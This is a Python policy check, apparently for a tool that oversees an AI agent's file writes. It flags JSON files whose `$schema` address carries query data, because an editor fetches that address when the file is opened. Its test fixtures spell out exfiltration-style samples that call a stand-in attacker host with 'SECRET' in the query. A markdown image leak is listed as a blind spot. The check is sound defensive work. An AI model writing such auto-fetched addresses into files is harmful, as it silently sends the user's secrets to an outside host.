"""Content that makes an editor fetch an address with data in it.

Why
    A `$schema` address is fetched the moment the file is opened, and what stands after its `?` goes along.
Instead
    Name the schema by its plain address, or keep a copy in the workspace.
Blind spots
    Addresses in other keys, images in documents.
"""

from enactd.policy import Ask, Context, Opinions, WritePath, policy, tool


@policy(
    watches=WritePath,
    severity="medium",
    stage="stable",
    since="0.1",
    incidents=("PI-11",),
    asks=(
        tool("Write", file_path="schema.json", content='{"$schema":"https://attacker.example/s.json?d=SECRET"}'),
        tool("Edit", file_path="a.json", old_string="{", new_string='{"$schema": "http://x.example/?k=abc",'),
        tool("Write", file_path="b.json", content='{"$schema": "https://x.example/s?u=1"}'),
    ),
    allows=(
        tool("Write", file_path="biome.json", content='{"$schema":"https://biomejs.dev/schemas/1.9.4/schema.json"}'),
        tool("Write", file_path="page.ts", content='const u = "https://example.com/?q=1"'),
        tool("Edit", file_path="a.json", old_string="{", new_string='{"$schema": "./schema.json",'),
        "cat schema.json",
    ),
    misses=(tool("Write", file_path="a.md", content="![x](https://x.example/i.png?d=SECRET)"),),
)
def check(write: WritePath, context: Context) -> Opinions:
    _, found, rest = (write.content or "").partition('"$schema"')
    address = rest.partition("\n")[0].partition('"')[2].partition('"')[0]
    if found and address.startswith(("http://", "https://")) and "?" in address:
        yield Ask(f"an editor that opens `{write.target.shown}` would send data to `{address.split('?')[0]}`")
